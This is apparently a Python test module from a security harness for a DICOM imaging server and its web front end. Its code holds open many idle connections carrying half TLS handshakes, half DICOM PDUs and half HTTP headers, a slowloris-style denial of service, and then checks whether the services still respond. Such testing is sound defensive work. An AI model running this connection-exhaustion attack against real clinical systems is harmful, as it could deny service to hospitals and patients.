"""Connections opened and never used: half handshakes, half PDUs, half HTTP headers, held from one address."""

from __future__ import annotations

import contextlib
import http.client
import socket
import time

from .dicom import echo_works
from .kit import Brief, NotArmed, Result, ask, run

_SOURCE = "127.0.0.67"
_COUNT = 160
_PATIENCE = 5.0


def attack(brief: Brief) -> Result:
    """Succeeds when a modality or a browser elsewhere is not served within five seconds."""
    if not echo_works(brief, brief["innocent"]):
        raise NotArmed("the other modality got no answer even before")
    held = _hoard(brief, brief["dicom"]["port"], b"\x01\x00\x00\x00")
    held += _hoard(brief, brief["web"]["port"], b"GET / HT")
    started = time.monotonic()
    works = echo_works(brief, brief["innocent"])
    echo_seconds = time.monotonic() - started
    started = time.monotonic()
    try:
        page = ask(brief, "GET", "/healthz").status < 500
    except (OSError, http.client.HTTPException):
        page = False
    page_seconds = time.monotonic() - started
    for stream in held:
        stream.close()
    served = works and page and echo_seconds < _PATIENCE and page_seconds < _PATIENCE
    return Result(
        not served,
        f"{len(held)} idle connections held; C-ECHO {'answered' if works else 'failed'} after {echo_seconds:.2f} s, "
        f"HTTP {'answered' if page else 'failed'} after {page_seconds:.2f} s",
    )


def _hoard(brief: Brief, port: int, words: bytes) -> list[socket.socket]:
    """Connections with nothing, half a handshake or half a request on them, until no more are taken."""
    held: list[socket.socket] = []
    with contextlib.suppress(OSError):
        for turn in range(_COUNT):
            where = (brief["dicom"]["host"], port)
            held.append(socket.create_connection(where, timeout=1, source_address=(_SOURCE, 0)))
            if turn % 2:
                with contextlib.suppress(OSError):  # one that was closed is no reason to stop
                    held[-1].sendall(b"\x16\x03\x01\x02\x00" if turn % 4 == 1 else words)
    return held


if __name__ == "__main__":
    run(attack)
